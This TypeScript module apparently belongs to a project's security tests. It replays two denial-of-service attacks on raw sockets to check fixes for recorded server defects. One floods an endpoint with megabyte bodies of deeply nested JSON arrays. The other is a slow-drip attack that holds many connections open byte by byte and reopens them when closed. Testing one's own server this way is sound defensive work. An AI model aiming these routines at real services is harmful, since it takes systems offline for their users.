// The attacks of issue 21 (defects 1 and 7), replayed by hand on raw sockets: a client that
// sends a megabyte of nested arrays back to back, and connections that trickle a body a
// byte at a time. Each reports what the server answered and how long it kept a connection.
import net from 'node:net';

/** The body: 500,000 nested arrays, a million bytes. */
export const NESTED_BODY = `${'['.repeat(500_000)}${']'.repeat(500_000)}`;

export type AttackReport = {
  /** Requests (or connections) the attack completed. */
  requests: number;
  /** Status of each answer the server sent, counted; `none` for a connection closed without one. */
  statuses: Record<string, number>;
  /** How long the server kept each connection, ms. */
  heldMs: number[];
};

export type Attack = { stop: () => Promise<AttackReport> };

function newReport(): AttackReport {
  return { requests: 0, statuses: {}, heldMs: [] };
}

/**
 * One connection: writes `head`, then `drip` (if any) at `dripEveryMs`, until the server
 * closes it; resolves with the status the server answered (or `none`) and how long it held.
 */
function openConnection(
  url: URL,
  head: string,
  first: string,
  drip: string,
  dripEveryMs: number,
): Promise<{ status: string; heldMs: number }> {
  return new Promise((resolve) => {
    const socket = net.connect(Number(url.port), url.hostname);
    const opened = performance.now();
    let answer = '';
    let timer: NodeJS.Timeout | undefined;
    socket.setNoDelay(true);
    socket.on('connect', () => {
      socket.write(head + first);
      if (drip) {
        timer = setInterval(() => {
          if (!socket.destroyed && socket.writable) socket.write(drip);
        }, dripEveryMs);
      }
    });
    socket.on('data', (chunk) => {
      if (answer.length < 64) answer += chunk.toString('latin1');
    });
    socket.on('error', () => undefined); // the server closing mid-body is the expected end
    socket.on('close', () => {
      clearInterval(timer);
      const status = /^HTTP\/1\.1 (\d{3})/.exec(answer)?.[1] ?? 'none';
      resolve({ status, heldMs: performance.now() - opened });
    });
  });
}

/** Keeps `connections` of `open` running until stopped: each one that ends is opened again after `reopenAfterMs`. */
function sustain(
  connections: number,
  reopenAfterMs: number,
  open: () => Promise<{ status: string; heldMs: number }>,
): Attack {
  const report = newReport();
  let running = true;
  const loops = Array.from({ length: connections }, async (_, i) => {
    // Spread the first connections over a second rather than open them all at once.
    await new Promise((resolve) => setTimeout(resolve, (i * 1000) / connections));
    while (running) {
      const { status, heldMs } = await open();
      report.requests += 1;
      report.statuses[status] = (report.statuses[status] ?? 0) + 1;
      report.heldMs.push(heldMs);
      if (reopenAfterMs > 0 && running) await new Promise((resolve) => setTimeout(resolve, reopenAfterMs));
    }
  });
  return {
    stop: async () => {
      running = false;
      await Promise.all(loops);
      return report;
    },
  };
}

/** Defect 1: `senders` clients, each sending NESTED_BODY to `path` back to back, unauthenticated. */
export function sendNestedBodies(baseURL: string, path: string, senders: number): Attack {
  const url = new URL(path, baseURL);
  const head =
    `POST ${url.pathname} HTTP/1.1\r\nhost: ${url.host}\r\ncontent-type: application/json\r\n` +
    `content-length: ${NESTED_BODY.length}\r\nconnection: close\r\n\r\n`;
  return sustain(senders, 0, () => openConnection(url, head, NESTED_BODY, '', 0));
}

/**
 * Defect 7: `connections` unauthenticated connections to `path`, each declaring a body of
 * `declaredBytes` and sending one byte every `dripEveryMs`; a connection the server closes
 * is opened again a second later, as an attacker holding that many slots would.
 */
export function trickleBodies(
  baseURL: string,
  path: string,
  connections: number,
  declaredBytes: number,
  dripEveryMs: number,
): Attack {
  const url = new URL(path, baseURL);
  const head =
    `POST ${url.pathname} HTTP/1.1\r\nhost: ${url.host}\r\ncontent-type: application/json\r\n` +
    `content-length: ${declaredBytes}\r\n\r\n`;
  return sustain(connections, 1000, () => openConnection(url, head, '{', ' ', dripEveryMs));
}
